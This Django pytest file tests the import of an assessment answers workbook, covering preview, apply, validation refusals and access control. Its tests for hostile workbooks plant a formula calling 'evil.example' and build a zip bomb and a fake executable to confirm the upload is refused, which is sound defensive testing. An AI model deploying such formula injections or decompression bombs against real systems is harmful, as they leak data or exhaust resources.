"""Import of the focal points' workbook through the pages: preview, apply, refusals, access."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from assessments.collection import services as collection_services
from assessments.models import AnswersWorkbookImport, Evidence
from ministries.models import User
from tests.factories import UserFactory
from tests.test_pages_security_a11y import PageAudit

from .test_workbook_export import (
    answer,
    cell,
    citation,
    column,
    download,
    kemnaker_response,
    sheet,
    snapshot,
    to_upload,
    with_kemnaker_contributions,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def wb_assessment(national_assessment, coordinator, kemnaker):
    return with_kemnaker_contributions(national_assessment, coordinator, kemnaker)


def add_row(ws, values: list) -> int:
    """Fill the first empty row (the export leaves unlocked empty rows under the list)."""
    row = next(r for r in range(2, ws.max_row + 2) if ws.cell(row=r, column=1).value is None)
    for idx, value in enumerate(values, start=1):
        ws.cell(row=row, column=idx).value = value
    return row


def upload(client, assessment, file) -> object:
    return client.post(f"/assessments/{assessment.pk}/workbook/import/", {"file": file})


def preview_url(assessment, workbook_import) -> str:
    return f"/assessments/{assessment.pk}/workbook/import/{workbook_import.pk}/"


def import_and_preview(client, assessment, wb, name="kemnaker.xlsx"):
    response = upload(client, assessment, to_upload(wb, name))
    assert response.status_code == 302, response.content.decode()[:2000]
    workbook_import = AnswersWorkbookImport.objects.latest("pk")
    assert response["Location"] == preview_url(assessment, workbook_import)
    return workbook_import, client.get(response["Location"])


def refused(client, assessment, wb) -> tuple[set[tuple], str]:
    """Upload a bad workbook; return its errors (sheet, row, column) and the page."""
    before = snapshot(assessment)
    workbook_import, page = import_and_preview(client, assessment, wb)
    assert workbook_import.status == AnswersWorkbookImport.Status.REFUSED
    assert page.status_code == 200
    errors = page.context["errors"]
    assert errors and "Apply the import" not in page.content.decode()
    # Applying anyway is refused too, and nothing changes.
    response = client.post(preview_url(assessment, workbook_import) + "apply/")
    assert response.status_code == 400
    assert snapshot(assessment) == before
    return {(e.sheet, e.row, e.column) for e in errors}, page.content.decode()


# --- the round trip -----------------------------------------------------------------------


def test_round_trip_previews_then_applies_five_answers_and_history_names_the_import(
    client, wb_assessment, focal_a
):
    law = citation(wb_assessment, focal_a)
    answer(wb_assessment, focal_a, "1.3.1", answer="yes", coverage="all", evidence=[law])
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    ws = wb["Responses"]
    cell(ws, "1.1.1", "answer").value = "Partially"
    cell(ws, "1.1.1", "coverage").value = "Regular migrants only"
    cell(ws, "1.2.2", "answer").value = "Tidak berlaku"  # Indonesian label
    cell(ws, "1.3.2", "answer").value = "no"  # the code
    cell(ws, "1.3.2", "justification").value = "No policy yet; a draft is being discussed."
    cell(ws, "2.1.1", "answer").value = "Yes"
    cell(ws, "4.1.1", "answer").value = "Ya"
    cell(ws, "4.1.1", "evidence").value = f"E{law.pk}, PERMEN1"
    evidence = wb["Evidence"]
    add_row(
        evidence,
        ["PERMEN1", "citation", "ministerial_regulation", "4", 2023, "Placement procedures"],
    )
    before = snapshot(wb_assessment)

    workbook_import, page = import_and_preview(client, wb_assessment, wb)

    assert page.status_code == 200
    assert workbook_import.status == AnswersWorkbookImport.Status.PREVIEWED
    assert workbook_import.filename == "kemnaker.xlsx"
    assert snapshot(wb_assessment) == before  # a preview writes nothing
    html = page.content.decode()
    assert "Apply the import" in html
    rows = page.context["rows"]
    assert [r["code"] for r in rows] == ["1.1.1", "1.2.2", "1.3.2", "2.1.1", "4.1.1"]
    fields = {r["code"]: {f["name"]: f for f in r["fields"]} for r in rows}
    assert fields["1.3.2"]["answer"]["old"] == "" and fields["1.3.2"]["answer"]["new"] == "No"
    assert fields["1.3.2"]["justification"]["changed"]
    assert fields["1.1.1"]["coverage"]["new"] == "Regular migrants only"
    assert fields["1.2.2"]["answer"]["new"] == "Not applicable"
    assert "Placement procedures" in " ".join(fields["4.1.1"]["evidence"]["new"])
    assert page.context["plan"].unchanged == 3
    assert "Placement procedures" in html  # the new evidence table

    response = client.post(preview_url(wb_assessment, workbook_import) + "apply/")
    assert response.status_code == 302
    workbook_import.refresh_from_db()
    assert workbook_import.status == AnswersWorkbookImport.Status.APPLIED
    assert workbook_import.applied_at is not None

    expected = {
        "1.1.1": ("partial", "regular"),
        "1.2.2": ("na", ""),
        "1.3.2": ("no", ""),
        "2.1.1": ("yes", ""),
        "4.1.1": ("yes", ""),
    }
    for code, (value, coverage) in expected.items():
        response = kemnaker_response(wb_assessment, code)
        assert (response.answer, response.coverage) == (value, coverage), code
        assert response.updated_by == focal_a
        latest = response.history.order_by("-history_date", "-history_id").first()
        # Stored as a code naming the file, put into words in the reader's language.
        assert latest.history_change_reason == 'excel_import|{"filename":"kemnaker.xlsx"}', code
        assert latest.history_user == focal_a
    assert kemnaker_response(wb_assessment, "1.3.2").justification.startswith("No policy yet")
    new = Evidence.objects.get(assessment=wb_assessment, title="Placement procedures")
    assert (new.kind, new.instrument_type, new.number, new.year) == (
        "citation",
        "ministerial_regulation",
        "4",
        2023,
    )
    assert new.institution == focal_a.institution
    assert set(kemnaker_response(wb_assessment, "4.1.1").evidence.all()) == {law, new}
    # Untouched rows keep their version.
    assert kemnaker_response(wb_assessment, "1.3.1").version == 2

    # The history page of an answer names the import.
    history = client.get(f"/responses/{kemnaker_response(wb_assessment, '1.3.2').pk}/history/")
    assert "Excel import (kemnaker.xlsx)" in history.content.decode()

    # The preview now says it was applied; applying twice is refused.
    page = client.get(preview_url(wb_assessment, workbook_import))
    assert "was applied on" in page.content.decode()
    again = client.post(preview_url(wb_assessment, workbook_import) + "apply/")
    assert again.status_code == 400
    assert "already been applied" in again.content.decode()


def test_reimporting_an_unchanged_export_changes_nothing(client, wb_assessment, focal_a):
    answer(wb_assessment, focal_a, "1.3.2", justification="-5% since 2020; =see annex")
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    before = snapshot(wb_assessment)
    workbook_import, page = import_and_preview(client, wb_assessment, wb)
    assert workbook_import.status == AnswersWorkbookImport.Status.PREVIEWED
    assert page.context["rows"] == []
    assert "nothing would change" in page.content.decode()
    assert snapshot(wb_assessment) == before


def test_preview_is_checked_again_when_applied(client, wb_assessment, focal_a):
    """A save in the portal between preview and apply makes the row stale: nothing applied."""
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    cell(wb["Responses"], "1.3.2", "answer").value = "Yes"
    cell(wb["Responses"], "4.1.1", "answer").value = "Yes"
    workbook_import, page = import_and_preview(client, wb_assessment, wb)
    assert page.context["rows"]
    answer(wb_assessment, focal_a, "1.3.2", answer="no")
    before = snapshot(wb_assessment)
    response = client.post(preview_url(wb_assessment, workbook_import) + "apply/")
    assert response.status_code == 400
    errors = response.context["errors"]
    assert [(e.sheet, e.field) for e in errors] == [("Responses", "version")]
    assert snapshot(wb_assessment) == before
    assert kemnaker_response(wb_assessment, "4.1.1").answer == ""


# --- hostile and mistaken workbooks -------------------------------------------------------


def test_formula_cells_are_refused(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    ws = wb["Responses"]
    cell(ws, "1.3.2", "justification").value = '=WEBSERVICE("http://evil.example")'
    cell(ws, "4.1.1", "answer").value = "Yes"
    errors, html = refused(client, wb_assessment, wb)
    assert errors == {("Responses", 5, cell(ws, "1.3.2", "justification").column_letter)}
    assert "Formulas are not accepted" in html


def test_unknown_and_unassigned_codes_are_refused(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    ws = wb["Responses"]
    cell(ws, "2.1.1", "code").value = "9.9.9"
    ws.append(["2.3.2", 2, "A question of BP2MI", "Lead", "Yes", None, None, None, 1])
    cell(ws, "4.1.1", "answer").value = "Yes"
    errors, html = refused(client, wb_assessment, wb)
    assert errors == {("Responses", 6, "A"), ("Responses", 10, "A")}
    assert "Unknown indicator code" in html
    assert "not assigned to your institution" in html


@pytest.mark.parametrize("header", ["question", "code", "role", "dimension", "version"])
def test_edited_locked_columns_are_refused(client, wb_assessment, focal_a, header):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    ws = wb["Responses"]
    edited = {
        "question": "Is everything fine?",
        "code": "1.3.1",  # the code of another row
        "role": "Contributor",
        "dimension": 3,
        "version": 7,
    }[header]
    cell(ws, "1.3.2", "answer").value = "Yes"
    cell(ws, "1.3.2", header).value = edited
    errors, _html = refused(client, wb_assessment, wb)
    assert errors == {("Responses", 5, ws.cell(row=1, column=column(ws, header)).column_letter)}


def test_question_in_the_other_language_is_accepted(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    client.cookies["django_language"] = "id"
    wb = download(client, wb_assessment)  # questions, sheet names and headers in Indonesian
    cell(sheet(wb, "Responses"), "1.3.2", "answer").value = "Tidak"
    client.cookies["django_language"] = "en"
    workbook_import, page = import_and_preview(client, wb_assessment, wb)
    assert workbook_import.status == AnswersWorkbookImport.Status.PREVIEWED
    assert [r["code"] for r in page.context["rows"]] == ["1.3.2"]


def test_invalid_answers_are_refused(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    ws = wb["Responses"]
    cell(ws, "1.3.2", "answer").value = "Maybe"
    cell(ws, "2.1.1", "answer").value = "Not applicable"  # not allowed for 2.1.1
    cell(ws, "4.1.1", "coverage").value = "Regular migrants only"  # 4.1.1 has no coverage
    cell(ws, "1.3.1", "coverage").value = "Some migrants"
    cell(ws, "4.1.2", "evidence").value = "E999999"
    errors, html = refused(client, wb_assessment, wb)
    answer_col = ws.cell(row=1, column=column(ws, "answer")).column_letter
    coverage_col = ws.cell(row=1, column=column(ws, "coverage")).column_letter
    evidence_col = ws.cell(row=1, column=column(ws, "evidence")).column_letter
    assert errors == {
        ("Responses", 5, answer_col),
        ("Responses", 6, answer_col),
        ("Responses", 7, coverage_col),
        ("Responses", 4, coverage_col),
        ("Responses", 8, evidence_col),
    }
    assert "is not an answer" in html
    assert "“Not applicable” is not an answer for this indicator" in html
    assert "no coverage qualifier" in html
    assert "Unknown evidence reference: E999999" in html


def test_bad_evidence_rows_are_refused(client, wb_assessment, focal_a):
    law = citation(wb_assessment, focal_a)
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    evidence = wb["Evidence"]
    evidence.cell(row=2, column=column(evidence, "title")).value = "Renamed law"  # locked row
    add_row(evidence, ["FILE1", "file", "", "", "", "A scan", "", ""])
    add_row(evidence, ["LAW2", "citation", "", "", "", "No type given", "", ""])
    add_row(evidence, ["WEB1", "link", "", "", "", "A page", "", "not a url"])
    add_row(evidence, ["LAW2", "link", "", "", "", "Twice", "", "https://example.org"])
    errors, html = refused(client, wb_assessment, wb)
    letter = {
        h: evidence.cell(row=1, column=column(evidence, h)).column_letter
        for h in ("ref", "kind", "instrument_type", "title", "url")
    }
    assert errors == {
        ("Evidence", 2, letter["title"]),
        ("Evidence", 3, letter["kind"]),
        ("Evidence", 4, letter["instrument_type"]),
        ("Evidence", 5, letter["url"]),
        ("Evidence", 6, letter["ref"]),
    }
    assert "Files cannot be added through Excel" in html
    assert Evidence.objects.filter(assessment=wb_assessment).get() == law


def test_stale_row_is_refused_but_an_untouched_one_is_not(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    # Changed on the portal after the export.
    answer(wb_assessment, focal_a, "1.3.2", answer="partial")
    answer(wb_assessment, focal_a, "4.1.1", answer="yes")
    ws = wb["Responses"]
    cell(ws, "1.3.2", "answer").value = "No"  # stale: the workbook also changes it
    cell(ws, "4.1.1", "answer").value = "Yes"  # same value as the portal now: fine
    cell(ws, "2.1.1", "answer").value = "No"
    errors, html = refused(client, wb_assessment, wb)
    assert errors == {("Responses", 5, ws.cell(row=1, column=column(ws, "version")).column_letter)}
    assert "changed on the portal after the workbook was exported" in html


def test_workbook_of_another_institution_is_refused(client, wb_assessment, focal_a, coordinator):
    client.force_login(coordinator)
    wb = download(client, wb_assessment, institution="BP2MI")
    cell(wb["Responses"], "2.3.2", "answer").value = "Yes"
    client.force_login(focal_a)
    errors, html = refused(client, wb_assessment, wb)
    assert ("_meta", 3, "B") in errors
    assert ("Responses", 3, "A") in errors  # 2.3.2 is BP2MI's
    assert "exported for another assessment or institution" in html


def test_changes_to_submitted_answers_are_refused(client, wb_assessment, focal_a):
    for code in ("1.3.1", "1.3.2", "4.1.1"):  # Kemnaker's lead indicators
        answer(wb_assessment, focal_a, code, answer="yes")
    collection_services.submission_create(
        assessment=wb_assessment, institution=focal_a.institution, actor=focal_a
    )
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    cell(wb["Responses"], "1.3.2", "answer").value = "No"
    errors, html = refused(client, wb_assessment, wb)
    ws = wb["Responses"]
    assert errors == {("Responses", 5, ws.cell(row=1, column=column(ws, "answer")).column_letter)}
    assert "has submitted this answer" in html


def test_renamed_exe_and_zip_bomb_are_refused_before_anything_is_kept(
    client, wb_assessment, focal_a
):
    client.force_login(focal_a)
    before = snapshot(wb_assessment)
    exe = SimpleUploadedFile("answers.xlsx", b"MZ\x90\x00\x03 this is a program")
    response = upload(client, wb_assessment, exe)
    assert response.status_code == 400
    assert "not an Excel workbook" in response.content.decode()

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "0" * (60 * 1024 * 1024))
    bomb = SimpleUploadedFile("answers.xlsx", buffer.getvalue())
    response = upload(client, wb_assessment, bomb)
    assert response.status_code == 400
    html = response.content.decode()
    assert "unpacks to far more" in html
    assert "<table" in html  # listed in the errors table
    assert not AnswersWorkbookImport.objects.exists()
    assert snapshot(wb_assessment) == before


def test_missing_sheets_are_reported(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    del wb["Evidence"]
    del wb["_meta"]
    errors, _html = refused(client, wb_assessment, wb)
    assert errors == {("Evidence", None, None), ("_meta", None, None)}


def test_upload_without_a_file_shows_the_form_again(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    response = client.post(f"/assessments/{wb_assessment.pk}/workbook/import/", {})
    assert response.status_code == 400
    assert response.context["form"].errors


# --- who may import -----------------------------------------------------------------------


def test_focal_b_gets_404_on_kemnakers_import_and_preview(client, wb_assessment, focal_a, focal_b):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    cell(wb["Responses"], "1.3.2", "answer").value = "Yes"
    workbook_import, _page = import_and_preview(client, wb_assessment, wb)
    url = preview_url(wb_assessment, workbook_import)

    client.force_login(focal_b)
    base = f"/assessments/{wb_assessment.pk}/workbook/import/"
    assert client.get(base, {"institution": "KEMNAKER"}).status_code == 404
    assert client.get(url).status_code == 404
    assert client.post(url + "apply/").status_code == 404
    # Another focal point of Kemnaker does not see someone else's upload either.
    colleague = UserFactory(
        username="t-focal-kemnaker-2", role=User.Role.FOCAL_POINT, institution=focal_a.institution
    )
    client.force_login(colleague)
    assert client.get(url).status_code == 404
    assert client.post(url + "apply/").status_code == 404
    workbook_import.refresh_from_db()
    assert workbook_import.status == AnswersWorkbookImport.Status.PREVIEWED
    assert kemnaker_response(wb_assessment, "1.3.2").answer == ""


def test_only_focal_points_import(
    client, wb_assessment, coordinator, facilitator, provincial_coordinator
):
    url = f"/assessments/{wb_assessment.pk}/workbook/import/"
    response = client.get(url)
    assert response.status_code == 302 and "/login/" in response["Location"]
    for user in (coordinator, facilitator):
        client.force_login(user)
        assert client.get(url).status_code == 403
    client.force_login(provincial_coordinator)
    assert client.get(url).status_code == 404


def test_entry_page_links_to_the_workbook(client, wb_assessment, focal_a):
    client.force_login(focal_a)
    html = client.get(f"/assessments/{wb_assessment.pk}/entry/").content.decode()
    assert f"/assessments/{wb_assessment.pk}/workbook.xlsx" in html
    assert f"/assessments/{wb_assessment.pk}/workbook/import/" in html


@pytest.mark.parametrize("language", ["en", "id"])
def test_pages_have_labels_and_no_inline_code(client, wb_assessment, focal_a, language):
    client.force_login(focal_a)
    wb = download(client, wb_assessment)
    cell(wb["Responses"], "1.3.2", "answer").value = "Yes"
    workbook_import, _page = import_and_preview(client, wb_assessment, wb)
    client.cookies["django_language"] = language
    for url in (
        f"/assessments/{wb_assessment.pk}/workbook/import/",
        preview_url(wb_assessment, workbook_import),
    ):
        response = client.get(url)
        assert response.status_code == 200
        page = PageAudit()
        page.feed(response.content.decode())
        assert page.html_lang == language
        assert page.h1 == 1
        assert page.inline_scripts == 0 and page.inline_styles == 0
        unlabelled = [
            f for f in page.fields if f.get("id") not in page.labels and not f.get("aria-label")
        ]
        assert unlabelled == []
